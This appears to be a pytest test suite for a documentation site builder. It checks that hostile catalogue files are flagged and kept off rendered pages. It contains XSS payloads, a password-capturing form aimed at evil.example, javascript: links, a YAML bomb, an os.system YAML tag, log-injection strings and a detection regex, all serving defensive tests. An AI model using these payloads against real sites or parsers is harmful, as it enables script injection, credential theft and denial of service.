"""Hostile files: each gives its finding, and none a traceback, a hang, or script on a page."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from building import Built, build, item
from riskdocs.texts.visible import visible

#: What would run if it reached a page outside of text.
_RUNS = re.compile(
    r"<script(?! )|<iframe|<object|<embed|<form|<base|<meta http|\son[a-z]+\s*=|javascript:|srcdoc",
    re.IGNORECASE,
)
_BOMB = (
    "---\ntitle: Bomb\ndoc-status: Draft\na: &a [x, x, x, x, x, x, x, x, x]\n"
    + "".join(
        f"{name}: &{name} [*{before}, *{before}, *{before}, *{before}, *{before}, *{before}]\n"
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "---\nText.\n"
)


@pytest.mark.parametrize(
    ("content", "rule"),
    [
        (b"---\ntitle: \xff\xfe\n---\n", "file-unreadable"),
        (b"\x00\x01\x02", "front-matter-missing"),
        ("---\ntitle: Open\n\nText.\n", "front-matter-unclosed"),
        ("---\ntitle: !!python/object/apply:os.system [ls]\n---\n", "yaml-unsafe"),
        (_BOMB, "yaml-unsafe"),
        ("---\na: &a [*a]\n---\n", "yaml-unsafe"),
        ("---\n" + "[" * 50_000 + "\n---\n", "yaml-unsafe"),
        ("---\n" + "- " * 20_000 + "\n---\n", "yaml-unsafe"),
    ],
    ids=["bytes", "binary", "unclosed", "tag", "bomb", "circle", "brackets", "dashes"],
)
def test_file_that_costs_itself(tmp_path: Path, content: str | bytes, rule: str) -> None:
    files = {
        "catalogue/risks/tr-1.md": content,
        "catalogue/risks/tr-2.md": item("Fine", "See [it](#TR-1)."),
    }
    site = build(tmp_path, files)
    assert site.rules() == [rule]
    assert not site.exists("risks/tr-1")
    assert site.page("risks/tr-2/").one("h1").text() == "TR-2 Fine"
    assert "it (TR-1 is missing)" in site.page("risks/tr-2/").one("main").text()


@pytest.mark.parametrize("name", ["about.md", "about.markdown", "deep/about.md"])
def test_documentation_page_that_is_not_utf_8_costs_itself(tmp_path: Path, name: str) -> None:
    files: dict[str, str | bytes] = {
        "catalogue/risks/tr-1.md": item("Fine"),
        f"docs/{name}": "# Größe\n".encode("latin-1"),
        "docs/guide.md": "# Guide\n",
    }
    site = build(tmp_path, files)
    assert site.rules() == ["file-unreadable"]
    assert any(f"docs/{name}:1:5: file-unreadable: " in text for text in site.messages)
    assert not site.exists(name.rpartition(".")[0])
    assert site.exists("guide/index.html")


def test_documentation_link_that_leads_nowhere(tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    for name in ("about.md", "picture.png"):
        (tmp_path / "docs" / name).symlink_to("nowhere")
    (tmp_path / "docs/circle.css").symlink_to("circle.css")
    site = build(tmp_path, {"catalogue/risks/tr-1.md": item("Fine")})
    assert site.rules() == ["file-unreadable"] * 3
    assert site.exists("risks/tr-1/index.html")


def test_large_file(tmp_path: Path) -> None:
    large = tmp_path / "catalogue/risks/tr-1.md"
    large.parent.mkdir(parents=True)
    with large.open("wb") as stream:
        stream.truncate(50_000_000)
    site = build(tmp_path, {"catalogue/risks/tr-2.md": item("Fine")})
    assert site.rules() == ["file-unreadable"]


def test_link_out_of_the_catalogue(tmp_path: Path) -> None:
    (tmp_path / "secret.md").write_text(item("Secret"), encoding="utf-8")
    risks = tmp_path / "catalogue/risks"
    risks.mkdir(parents=True)
    (risks / "tr-1.md").symlink_to(tmp_path / "secret.md")
    (risks / "picture.png").symlink_to(tmp_path / "secret.md")
    (risks / "circle.md").symlink_to(risks / "circle.md")
    site = build(tmp_path, {})
    assert site.rules() == ["file-unreadable"] * 3
    assert not site.exists("risks/tr-1")
    assert not site.exists("risks/picture.png")


def test_two_files_with_one_id(tmp_path: Path) -> None:
    files = {
        "catalogue/a/tr-1.md": item("First"),
        "catalogue/b/tr-1-again.md": item("Second"),
    }
    site = build(tmp_path, files)
    assert site.rules() == ["id-duplicate"]
    assert site.page("risks/tr-1/").one("h1").text() == "TR-1 First"


def test_keys_that_mkdocs_or_a_theme_would_follow_do_not_reach_it(tmp_path: Path) -> None:
    files = {
        "catalogue/risks/tr-1.md": item(
            "Keys", template="evil.html", hide=["toc"], search={"exclude": True}
        ),
        "bare/evil.html": "<p id='evil'></p>",
    }
    site = build(tmp_path, files)
    assert site.page("risks/tr-1/").css_first("#evil") is None
    assert site.rules() == ["field-unknown"] * 3


def test_log_of_a_build_has_one_harmless_line_for_a_finding(tmp_path: Path) -> None:
    hostile = "x\n::error::y\r##[error]\x1b[2J"
    site = build(tmp_path, {"catalogue/risks/tr-1.md": item("One", doc_status=hostile)})
    (message,) = (text for text in site.messages if "value-unknown" in text)
    assert "x ::error::y" in message
    assert message == visible(message)


BODIES = {
    "script": "<script>alert(1)</script>",
    "script in a paragraph": "Text <script>alert(1)</script> text.",
    "upper case": "<SCRIPT SRC=//evil.example></SCRIPT>",
    "broken tag": "<scr<script>ipt>alert(1)</script>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "handler": '<img src="x" onerror="alert(1)">',
    "handler without quotes": "<b onmouseover=alert(1)>x</b>",
    "handler over lines": '<b\nonclick="alert(1)">x</b>',
    "attribute list": "Text {: onclick=alert(1) }\n{: onclick=alert(1) }",
    "attribute list on a link": '[x](https://example.org){ onclick="alert(1)" }',
    "attribute list on a heading": "## Heading {: onmouseover=alert(1) }",
    "address": "[x](javascript:alert(1))",
    "address in capitals": "[x](JaVaScRiPt:alert(1))",
    "address with entity": "[x](javascript&#58;alert(1))",
    "address with tab": "[x](<java\tscript:alert(1)>)",
    "address by reference": "[x][y]\n\n[y]: javascript:alert(1)",
    "image address": "![x](javascript:alert(1))",
    "data address": "[x](data:text/html,<script>alert(1)</script>)",
    "raw link": '<a href="javascript:alert(1)">x</a>',
    "form": '<form action="https://evil.example"><input name="password"></form>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style": '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>',
    "svg": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "md in html": '<div markdown="1" onclick="alert(1)">x</div>',
}


@pytest.mark.parametrize("markdown", ["github", "mkdocs"])
def test_what_only_some_take_for_a_link_leads_nowhere(tmp_path: Path, markdown: str) -> None:
    files = {
        "catalogue/catalogue.yml": f"markdown: {markdown}\n",
        "catalogue/risks/tr-1.md": item("One", "[x](java\tscript:alert(1))"),
    }
    assert build(tmp_path, files).page("risks/tr-1/").css("main > p a[href]") == []


EXTENSIONS = ["attr_list", "md_in_html", "pymdownx.tabbed", "pymdownx.superfences"]


@pytest.fixture(scope="module", params=["github", "mkdocs"])
def site_with_bodies(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Built:
    files = {"catalogue/catalogue.yml": f"markdown: {request.param}\n"}
    for number, body in enumerate(BODIES.values(), 1):
        files[f"catalogue/risks/tr-{number}.md"] = item("One", f"Before.\n\n{body}\n")
    return build(tmp_path_factory.mktemp("bodies"), files, markdown_extensions=EXTENSIONS)


@pytest.mark.parametrize("number", range(1, len(BODIES) + 1), ids=BODIES)
def test_markup_is_found_and_does_not_reach_the_page(site_with_bodies: Built, number: int) -> None:
    site = site_with_bodies
    said = [text for text in site.messages if f"catalogue/risks/tr-{number}.md:" in text]
    assert any(f": {rule}: " in text for text in said for rule in ("html-unsafe", "url-unsafe"))
    main = site.page(f"risks/tr-{number}/").one("main").html or ""
    markup = "".join(re.findall(r"<[^<>]*>", main))
    assert not _RUNS.search(markup), main
    assert "position" not in main
    assert "Before." in main


@pytest.mark.parametrize("markdown", ["github", "mkdocs"])
def test_no_other_host_is_asked_for_an_image(tmp_path: Path, markdown: str) -> None:
    body = (
        "![in words](https://evil.example/a.png) [![b](//evil.example/b.png)](#TR-1) ![c][c]\n\n"
        '<p><img src="https://evil.example/d.png" alt="d"></p>\n\n[c]: http://evil.example/c.png'
    )
    files = {
        "catalogue/catalogue.yml": f"markdown: {markdown}\nrules: {{ignore: link-self}}\n",
        "catalogue/risks/tr-1.md": item("One", body),
    }
    site = build(tmp_path, files)
    assert site.rules() == ["image-external"] * 4
    for address in ("risks/tr-1/", "all/"):
        images = site.page(address).css("main img")
        assert [image.attributes for image in images] == [
            {"alt": alt} for alt in ("in words", "b", "c", "d")
        ]


TITLES = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("theme", [None, pytest.param("material", marks=pytest.mark.slow)])
def test_title(tmp_path: Path, theme: str | None) -> None:
    files = {}
    addresses = ["risks/", ""]
    for number, title in enumerate(TITLES, 1):
        risk, control = f"TR-{number}", f"ct-{number}"
        files[f"catalogue/risks/{risk.lower()}.md"] = item(title)
        files[f"catalogue/controls/{control}.md"] = item(
            "Control", f"[](#{risk})", mitigates=[risk]
        )
        addresses += [f"risks/{risk.lower()}/", f"controls/{control}/"]
    plugins = ["search", "riskdocs"] if theme else ["riskdocs"]
    site = build(tmp_path, files, theme=theme, plugins=plugins)
    for address in addresses:
        assert "alert(1)" not in _scripts(site, address)
        assert site.page(address).css("[onerror]") == []
    if theme:
        index = (site.folder / "search/search_index.json").read_text(encoding="utf-8")
        assert "<script" not in index
        assert "<img" not in index


def _scripts(site: Built, address: str) -> str:
    """Return every program on a page; JSON-LD is data, which no browser runs."""
    programs = site.page(address).css("script:not([type='application/ld+json'])")
    return " ".join(node.text() for node in programs)


def test_reference_with_a_script_for_an_address(tmp_path: Path) -> None:
    refs = [{"owasp-llm-top-10": ["javascript:alert(1)"]}, {"<b onclick=alert(1)>": "x"}]
    site = build(tmp_path, {"catalogue/risks/tr-1.md": item("One", external_refs=refs)})
    assert {"html-unsafe", "url-unsafe"} <= set(site.rules())
    page = site.page("risks/tr-1/")
    assert page.css("[onclick]") == []
    assert page.css("a[href^=javascript]") == []


@pytest.mark.parametrize(
    "heading", ['# a {#x"onclick=alert(1)//}', "# a {#x'><script>}", "# <b onclick=alert(1)>&lt;i>"]
)
def test_heading_in_the_table_of_contents(tmp_path: Path, heading: str) -> None:
    site = build(tmp_path, {"catalogue/risks/tr-1.md": item("One", heading)})
    contents = site.page("risks/tr-1/").one("nav.toc")
    partners, link = contents.css("*")[1:]
    assert set(partners.attributes) == set(link.attributes) == {"href"}


@pytest.mark.parametrize("body", ["> " * 2_000, "- " * 2_000 + "a"], ids=["quotes", "lists"])
@pytest.mark.parametrize("markdown", ["github", "mkdocs"])
def test_text_too_deep_for_any_page_costs_its_file(
    tmp_path: Path, body: str, markdown: str
) -> None:
    assert _costs_its_file(tmp_path, body, markdown)


@pytest.mark.parametrize(
    "body",
    [
        "[" * 20_000,
        "![[" * 8_000,
        "[a](" * 5_000,
        "<a " * 5_000,
        "[^a]" * 5_000,
        "[" * 10_000 + "]" * 10_000,
        "# a " + "{: .a " * 5_000,
        "\\*" * 60_000,
        "a <![[b](#TR-1)",
        "a `<![b`",
        " ".join("`" * number for number in range(1, 500)),
    ],
    ids=lambda body: body[:4],
)
def test_text_that_only_pythons_markdown_does_not_get_through(tmp_path: Path, body: str) -> None:
    assert _costs_its_file(tmp_path / "mkdocs", body, "mkdocs")
    started = time.process_time()
    assert not _costs_its_file(tmp_path / "github", body, "github")
    assert time.process_time() - started < 10  # Python-Markdown would need minutes


def _costs_its_file(folder: Path, body: str, markdown: str) -> bool:
    files = {
        "catalogue/catalogue.yml": f"markdown: {markdown}\n",
        "catalogue/risks/tr-1.md": item("One", body),
    }
    site = build(folder, files)
    assert site.exists("risks/tr-1") == ("file-unreadable" not in site.rules())
    return "file-unreadable" in site.rules()


def test_long_honest_text_is_rendered(tmp_path: Path) -> None:
    body = "\n".join(f"| [a](#TR-1) | ({n}) | x < y |" for n in range(1_000))
    body = f"| a | b | c |\n| --- | --- | --- |\n{body}\n"
    site = build(tmp_path, {"catalogue/risks/tr-1.md": item("One", body)})
    assert len(site.page("risks/tr-1/").css("main td a")) == 1_000
    assert set(site.rules()) == {"link-self"}
